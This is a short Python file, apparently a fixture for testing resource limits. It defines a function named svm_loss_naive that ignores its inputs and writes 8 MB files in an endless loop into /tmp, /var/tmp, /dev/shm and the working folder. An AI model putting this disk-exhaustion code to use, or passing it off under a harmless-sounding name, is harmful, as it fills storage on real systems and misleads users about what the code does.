# Writes file after file (each under the per-file limit) into /tmp, /var/tmp, /dev/shm and
# its work folder until something gives. @@MARKER@@ is a name prefix unique to the test run.
import os


def svm_loss_naive(W, X, y, reg):
    chunk = b"\0" * (1 << 20)
    n = 0
    while True:
        for folder in ("/tmp", "/var/tmp", "/dev/shm", "."):
            with open(os.path.join(folder, f"@@MARKER@@-{os.getpid()}-{n}.bin"), "wb") as f:
                for _ in range(8):
                    f.write(chunk)
            n += 1
